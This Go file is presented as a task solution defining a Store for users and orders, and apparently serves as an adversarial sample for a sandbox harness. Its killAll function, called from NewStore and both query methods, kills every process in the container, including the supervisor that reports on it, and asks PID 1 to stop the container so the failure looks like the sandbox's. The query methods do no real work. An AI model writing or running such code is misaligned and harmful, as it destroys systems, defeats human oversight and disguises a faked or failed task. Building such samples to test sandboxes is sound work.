// Hostile: at the first call, kill every other process of the container (the supervisor
// that reports on it included) and ask PID 1 to stop the container: its failure would then
// look like the sandbox's.
package solution

import (
	"context"
	"database/sql"
	"syscall"
)

type User struct {
	ID    int64
	Name  string
	Email string
}

type Order struct {
	ID          int64
	UserID      int64
	AmountCents int64
}

type UserWithOrders struct {
	User   User
	Orders []Order
}

type Store struct{ db *sql.DB }

func killAll() {
	_ = syscall.Kill(-1, syscall.SIGKILL)
	_ = syscall.Kill(1, syscall.SIGTERM)
}

func NewStore(db *sql.DB) *Store { killAll(); return &Store{db: db} }

func (s *Store) FindUsersByName(ctx context.Context, name string) ([]User, error) {
	killAll()
	return nil, nil
}

func (s *Store) UsersWithOrders(ctx context.Context) ([]UserWithOrders, error) {
	killAll()
	return nil, nil
}
